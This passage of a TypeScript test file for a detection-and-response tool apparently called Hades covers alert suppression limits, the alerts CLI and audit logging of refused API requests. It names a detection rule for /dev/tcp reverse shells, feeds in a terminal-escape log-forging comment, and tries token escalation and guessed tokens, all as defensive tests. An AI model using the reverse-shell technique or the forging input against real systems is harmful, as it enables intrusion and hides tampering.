      [{ rule: '*', host }, /every rule \(\*\)/],
      [{ rule: 'reverse_shell_dev_tcp' }, /the whole rule reverse_shell_dev_tcp on every host/],
      [{ rule: 'reverse_shell_dev_tcp', host, for: '31d' }, /more than 30 days/],
      // A field that every event has, or a whole environment's, narrows nothing without a host.
      [{ rule: 'reverse_shell_dev_tcp', field: 'event.kind', value: 'event' }, /the whole rule reverse_shell_dev_tcp on every host \(event\.kind is a field of every event/],
      [{ rule: 'reverse_shell_dev_tcp', field: 'agent.type', value: 'hades' }, /the whole rule reverse_shell_dev_tcp on every host/],
      [{ rule: 'reverse_shell_dev_tcp', field: 'hades.cmdb.environment', value: 'production' }, /the whole rule reverse_shell_dev_tcp on every host/],
    ] as const) {
      const refused = await suppress(body);
      assertError(refused, 403, 'HADES_ERR_API_FORBIDDEN', JSON.stringify(body));
      assert.match(refused.body.message, what);
      assert.match(refused.body.message, /needs an admin token/);
    }
    const made: string[] = [];
    for (const body of [
      { rule: 'reverse_shell_dev_tcp', host, for: '30d' },
      { rule: 'reverse_shell_dev_tcp', field: 'process.name', value: 'bash' },
      // With a host, any field narrows further.
      { rule: 'reverse_shell_dev_tcp', host, field: 'event.kind', value: 'event' },
    ] as Record<string, string>[]) {
      const answer = await suppress(body);
      assert.equal(answer.status, 201, JSON.stringify(answer.body));
      made.push(answer.body['id']);
    }
    // An admin (the deployment's own token) may make the broad ones.
    const broad = (await server.ok('POST', '/api/v1/suppressions', { body: { rule: '*', for: '365d', reason: 'lab fleet' } })) as AnyEvent;
    made.push(String(broad['id']));
    const audit = (await server.ok('GET', '/api/v1/audit', { query: { limit: 100 } })) as { entries: AnyEvent[] };
    const denied = audit.entries.filter((e) => e['action'] === 'api.denied' && e['actor'] === 'suppressing-analyst');
    assert.ok(denied.length >= 6, `${denied.length} refusals audited`);
    for (const id of made) await server.ok('DELETE', `/api/v1/suppressions/${id}`);
  });

  it('lists the loaded rules with counters, and reloads them', async () => {
    const rules = (await server.ok('GET', '/api/v1/rules')) as AnyEvent;
    assert.ok(rules['rules'] >= 100, `${rules['rules']} rules`);
    assert.ok(rules['detection'].events >= 2);
    assert.ok(rules['detection'].alerts >= 1);
    assert.deepEqual(rules['outputs'], []);
    assert.ok(rules['list'].some((r: AnyEvent) => r['stats']?.matches >= 1));
    // The rule's own name for its dedup fields, as in its YAML.
    assert.ok(rules['list'].some((r: AnyEvent) => Array.isArray(r['dedup_by'])) && rules['list'].every((r: AnyEvent) => !('dedupBy' in r)));
    const reloaded = (await server.ok('POST', '/api/v1/rules/reload')) as AnyEvent;
    assert.equal(reloaded['rules'], rules['rules']);
  });

  it('hades alerts list: one line per alert, and NDJSON with --json', async () => {
    const plain = await runHades(['alerts', 'list', '--since', '10m', '--config', configFile]);
    assert.equal(plain.status, 0, plain.stderr);
    assert.match(plain.stdout, new RegExp(`^${alertId}\\s+\\S+\\s+(HIGH|CRITICAL)\\s+[a-z_]+\\s+${hostname}\\s+\\S+\\s+.*${marker.replace(/\./g, '\\.')}`, 'm'));
    const json = await runHades(['alerts', 'list', '--json', '--since', '10m', '--config', configFile]);
    assert.equal(json.status, 0, json.stderr);
    const alerts = json.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as AnyEvent);
    const mine = alerts.find((a) => a['id'] === alertId);
    assert.ok(mine);
    for (const key of ['@timestamp', 'rule', 'host', 'process', 'message']) assert.ok(key in mine, key);
    const bad = await runHades(['alerts', 'list', '--limit', 'lots', '--config', configFile]);
    assert.equal(bad.status, 2);
    assert.match(bad.stderr, /HADES_ERR_CLI_INVALID_ARGUMENT/);
    // A rule id that no loaded rule has: nothing to list, said so, with the closest id.
    const misspelt = await runHades(['alerts', 'list', '--since', '10m', '--rule', 'reverse_shel_dev_tcp', '--config', configFile]);
    assert.equal(misspelt.status, 0, misspelt.stderr);
    assert.equal(misspelt.stdout, '');
    assert.match(misspelt.stderr, /^hades: no alert in that window; no loaded rule has the id 'reverse_shel_dev_tcp'; did you mean 'reverse_shell_dev_tcp'\?$/m);
    // A host no agent enrolled as: said so too, with the closest name.
    const typo = await runHades(['alerts', 'list', '--since', '10m', '--host', `${hostname}x`, '--config', configFile]);
    assert.equal(typo.status, 0, typo.stderr);
    assert.equal(typo.stdout, '');
    assert.match(typo.stderr, new RegExp(`^hades: no alert in that window; no agent has the id or enrolled with the name '${hostname}x'; did you mean '${hostname}'\\?$`, 'm'));
  });

  it('hades alerts show, triage, comment, suppress, suppressions and unsuppress', async () => {
    const run = (...args: string[]) => runHades(['alerts', ...args, '--config', configFile]);
    const triaged = await run('triage', alertId, '--status', 'resolved', '--assignee', 'bo');
    assert.equal(triaged.status, 0, triaged.stderr);
    assert.match(triaged.stdout, new RegExp(`^${alertId}\\s+\\S+\\s+\\S+\\s+resolved\\s+\\S+\\s+\\S+( x\\d+)? @bo\\s{2}`, 'm'));
    const commented = await run('comment', alertId, 'closed:', 'lab test');
    assert.equal(commented.status, 0, commented.stderr);
    assert.match(commented.stdout, /closed: lab test/);
    const shown = await run('show', alertId);
    assert.equal(shown.status, 0, shown.stderr);
    assert.match(shown.stdout, /status:\s+resolved, assigned to bo/);
    assert.match(shown.stdout, /comment: .* closed: lab test/);
    // What a comment (or a host's process name) holds cannot move the cursor or forge a line.
    assert.equal((await run('comment', alertId, 'all clear\x1b[2J\r\n2026-01-01T00:00:00Z  LOW  forged')).status, 0);
    const escaped = await run('show', alertId);
    assert.match(escaped.stdout, /^ {2}comment: .*: all clear\\x1b\[2J\\r\\n2026-01-01T00:00:00Z {2}LOW {2}forged$/m);
    assert.ok(!escaped.stdout.includes('\x1b') && !escaped.stdout.includes('\r'), 'no raw control character');
    // Triage says what the alert was as well as what it became; comments are audited too.
    const { entries } = (await server.ok('GET', '/api/v1/audit', { query: { since: '5m', limit: 1000 } })) as { entries: AnyEvent[] };
    const triage = entries.find((e) => e['action'] === 'alert.triage' && e['target'] === alertId && e['details']?.status === 'resolved');
    assert.deepEqual(triage?.['details'], { status: 'resolved', assignee: 'bo', from: { status: triage?.['details'].from.status, assignee: triage?.['details'].from.assignee }, revision: triage?.['details'].revision });
    assert.equal(typeof triage?.['details'].revision, 'number', 'the revision the triage made');
    assert.notEqual(triage?.['details'].from.status, 'resolved');
    assert.ok(entries.some((e) => e['action'] === 'alert.comment' && e['target'] === alertId && e['details']?.text === 'closed: lab test'));
    const json = await run('show', alertId, '--json');
    assert.equal((JSON.parse(json.stdout) as AnyEvent)['events'].length, 1);
    // What an alert was, silenced without retyping it: its rule, its host (the agent's id) and
    // the value a field has in its event; a field it lacks, or holds several values of, refused.
    const shownAlert = JSON.parse(json.stdout) as AnyEvent;
    const like = await run('suppress', '--like', alertId, '--field', 'process.command_line', '--for', '1h', '--reason', 'lab noise');
    assert.equal(like.status, 0, like.stderr);
    const likeId = new RegExp(`^(\\S+)\\s+rule ${shownAlert['rule'].id} on ${shownAlert['host'].id} where process\\.command_line = `).exec(like.stdout)?.[1];
    assert.ok(likeId, like.stdout);
    assert.ok(like.stdout.includes(JSON.stringify(shownAlert['events'].at(-1).process.command_line)), like.stdout);
    assert.equal((await run('unsuppress', likeId)).status, 0);
    const lacking = await run('suppress', '--like', alertId, '--field', 'process.no_such', '--for', '1h', '--reason', 'x');
    assert.equal(lacking.status, 2);
    assert.match(lacking.stderr, /HADES_ERR_CLI_INVALID_ARGUMENT: the alert's event has no process\.no_such/);
    assert.match((await run('suppress', '--like', alertId, '--field', 'process.args', '--for', '1h', '--reason', 'x')).stderr, /HADES_ERR_CLI_INVALID_ARGUMENT: process\.args holds several values/);
    assert.match((await run('suppress', '--for', '1h', '--reason', 'x')).stderr, /HADES_ERR_CLI_MISSING_ARGUMENT: give --rule \(or '\*'\) or --like ALERT_ID/);
    const quietHost = await quietAgent();
    const suppressed = await run('suppress', '--rule', '*', '--host', quietHost, '--for', '2h', '--reason', 'maintenance');
    assert.equal(suppressed.status, 0, suppressed.stderr);
    const id = new RegExp(`^(\\S+)\\s+rule \\* on ${quietHost}`).exec(suppressed.stdout)?.[1];
    assert.ok(id, suppressed.stdout);
    assert.match((await run('suppressions')).stdout, new RegExp(`${id}.*maintenance`));
    assert.equal((await run('unsuppress', id)).status, 0);
    const again = await run('unsuppress', id);
    assert.equal(again.status, 2);
    assert.match(again.stderr, /HADES_ERR_API_NOT_FOUND/);
    const unknownRule = await run('suppress', '--rule', 'no_such_rule', '--for', '1h', '--reason', 'x');
    assert.match(unknownRule.stderr, /HADES_ERR_API_INVALID_REQUEST: no rule 'no_such_rule'/);
    const badId = await run('show', 'not-an-id');
    assert.equal(badId.status, 2);
    assert.match(badId.stderr, /HADES_ERR_CLI_INVALID_ARGUMENT/);
    const nothing = await run('triage', alertId);
    assert.match(nothing.stderr, /HADES_ERR_CLI_MISSING_ARGUMENT/);
  });
});

describe('refused requests leave a trace (a server of their own for each test: the limits count per minute from the first refusal)', () => {
  let refusing: TestServer;
  let servers = 0;
  // Each test's minute starts with its own first refusal: on a slow machine one shared server's
  // minute could end between two tests and start the counts afresh.
  beforeEach(async () => {
    refusing = await TestServer.start({ dataDir: path.join(dir, `refusing-${++servers}`) });
  });
  afterEach(async () => {
    await refusing?.stop();
  });
  const tokenOf = async (role: 'admin' | 'analyst' | 'read-only', name: string) => (await refusing.ok('POST', '/api/v1/tokens/api', { body: { name, role } })) as { id: string; token: string };
  const denied = async () => ((await refusing.ok('GET', '/api/v1/audit', { query: { limit: 1000 } })) as { entries: AnyEvent[] }).entries.filter((e) => e.action === 'api.denied');
  const warnings = (msg: RegExp) => refusing.log.lines().filter((line) => line['level'] === 'warn' && msg.test(String(line['msg'])));

  it('writes a 403 to the audit log and to the log: who (token name, id, role), what (method, route), denied, from where', async () => {
    const reader = await tokenOf('read-only', 'prober');
    assertError(await refusing.api('POST', '/api/v1/tokens/api', { token: reader.token, body: { name: 'escalate', role: 'admin' } }), 403, 'HADES_ERR_API_FORBIDDEN', 'escalation');
    const analyst = await tokenOf('analyst', 'restarter');
    const identity = await refusing.enrollAgent();
    // Refused by the handler (the kind needs more than the route): recorded the same.
    assertError(await refusing.api('POST', '/api/v1/tasks', { token: analyst.token, body: { agents: [identity.agentId], kind: 'restart_plugin', params: { name: 'inventory' } } }), 403, 'HADES_ERR_API_FORBIDDEN', 'restart by an analyst');
    const entries = await denied();
    const escalation = entries.find((e) => e.actor_id === reader.id);
    assert.ok(escalation, JSON.stringify(entries));
    assert.equal(escalation.actor, 'prober');
    assert.equal(escalation.target, 'POST /api/v1/tokens/api');
    assert.deepEqual(escalation.details, { outcome: 'denied', code: 'HADES_ERR_API_FORBIDDEN', method: 'POST', route: '/api/v1/tokens/api', role: 'read-only', needed: 'admin', address: '127.0.0.1' });
    const restart = entries.find((e) => e.actor_id === analyst.id);
    assert.equal(restart?.target, 'POST /api/v1/tasks');
    assert.equal(restart?.details.needed, 'admin');
    assert.equal(restart?.details.role, 'analyst');
    const logged = warnings(/^API request denied$/).find((line) => line['actor_id'] === reader.id);
    assert.ok(logged, refusing.log.text);
    assert.equal(logged['code'], 'HADES_ERR_API_FORBIDDEN');
    assert.equal(logged['route'], '/api/v1/tokens/api');
    assert.equal(logged['method'], 'POST');
    assert.equal(logged['address'], '127.0.0.1');
    assert.equal(logged['role'], 'read-only');
    assert.ok(!refusing.log.text.includes(secretOf(reader.token)), 'no secret in the log');
  });

  it('writes a 401 to the log with its reason and address, never the token (not in the audit log: anyone can send them)', async () => {
    const revoked = await tokenOf('read-only', 'to-revoke');
    await refusing.ok('DELETE', `/api/v1/tokens/api/${revoked.id}`);
    const expired = await tokenOf('read-only', 'to-expire');
    const db = new Database(path.join(refusing.dataDir, 'hades.db'));
    try {
      db.prepare('UPDATE api_tokens SET expires_at = 1 WHERE id = ?').run(expired.id);
    } finally {
      db.close();
    }
    const admin = refusing.adminToken;
    const badSecret = admin.slice(0, -1) + (admin.endsWith('A') ? 'B' : 'A');
    const malformed = `hadesapi_${'f'.repeat(16)}_guess-of-a-secret-${Date.now()}`;
    const unknown = `hadesapi_0123456789abcdef_${'Q'.repeat(43)}`;
    const calls: [string, Parameters<TestServer['api']>[2]][] = [
      ['missing', { token: null }],
      ['not_bearer', { token: null, headers: { authorization: `Basic ${Buffer.from(`u:${admin}`).toString('base64')}` } }],
      ['malformed', { token: malformed }],
      ['unknown', { token: unknown }],
      ['bad_secret', { token: badSecret }],
      ['revoked', { token: revoked.token }],
      ['expired', { token: expired.token }],
    ];
    const before = (await denied()).length;
    for (const [reason, call] of calls) {
      assertError(await refusing.api('GET', '/api/v1/agents', call), 401, 'HADES_ERR_API_UNAUTHENTICATED', reason);
      const line = warnings(/^API request refused: not authenticated$/).find((l) => l['reason'] === reason);
      assert.ok(line, `${reason}: ${refusing.log.text}`);
      assert.equal(line['code'], 'HADES_ERR_API_UNAUTHENTICATED');
      assert.equal(line['address'], '127.0.0.1');
      assert.equal(line['route'], '/api/v1/agents');
    }
    // The id (a token's public part, as listings show it) when the token had its form; no secret, no guess.
    assert.equal(warnings(/not authenticated/).find((l) => l['reason'] === 'bad_secret')?.['claimed_id'], admin.split('_')[1]);
    assert.equal(warnings(/not authenticated/).find((l) => l['reason'] === 'malformed')?.['claimed_id'], undefined);
    for (const secret of [secretOf(admin), secretOf(badSecret), secretOf(revoked.token), secretOf(expired.token), 'guess-of-a-secret', 'Q'.repeat(20)]) {
      assert.ok(!refusing.log.text.includes(secret), `the log holds no ${secret.slice(0, 4)}...`);
    }
    assert.equal((await denied()).length, before, '401s are not audited');
  });

  it('records the first 10 refusals a minute of one token or one address and reason, then one summary with the count', async () => {
    const reader = await tokenOf('read-only', 'hammer');
    const auditedBefore = (await denied()).filter((e) => e.actor_id === reader.id).length;
    for (let i = 0; i < 25; i++) assert.equal((await refusing.api('GET', '/api/v1/audit', { token: reader.token })).status, 403);
    const guess = `hadesapi_${'a'.repeat(16)}_${'Z'.repeat(43)}`;
    // Counted by address and reason: ten lines in all (unknownBefore: none on this server so far).
    const unknownBefore = warnings(/not authenticated$/).filter((l) => l['reason'] === 'unknown').length;
    for (let i = 0; i < 25; i++) assert.equal((await refusing.api('GET', '/api/v1/agents', { token: guess })).status, 401);
    const audited = (await denied()).filter((e) => e.actor_id === reader.id);
    assert.equal(audited.length - auditedBefore, 10, 'the first 10 denials of the token are audited one by one');
    assert.equal(warnings(/^API request denied$/).filter((l) => l['actor_id'] === reader.id).length, 10);
    assert.equal(warnings(/not authenticated$/).filter((l) => l['reason'] === 'unknown').length, 10);
    assert.equal(warnings(/not authenticated$/).filter((l) => l['claimed_id'] === 'a'.repeat(16)).length, 10 - unknownBefore);
    // The summaries are written when the minute ends, or when the server stops.
    await refusing.stop();
    const summaries = refusing.log.lines().filter((l) => /more like the last/.test(String(l['msg'])));
    assert.equal(summaries.find((l) => l['actor_id'] === reader.id)?.['more'], 15, refusing.log.text);
    assert.equal(summaries.find((l) => l['claimed_id'] === 'a'.repeat(16))?.['more'], 25 - (10 - unknownBefore));
    const db = new Database(path.join(refusing.dataDir, 'hades.db'), { readonly: true });
    try {
      const rows = db.prepare<[string], { details: string }>("SELECT details FROM audit_log WHERE action = 'api.denied' AND actor_id = ? ORDER BY id").all(reader.id);
      assert.equal(rows.length, 11, 'ten records and a summary');
      assert.equal((JSON.parse(rows[10]!.details) as AnyEvent)['more'], 15);
    } finally {
      db.close();
    }
  });
});
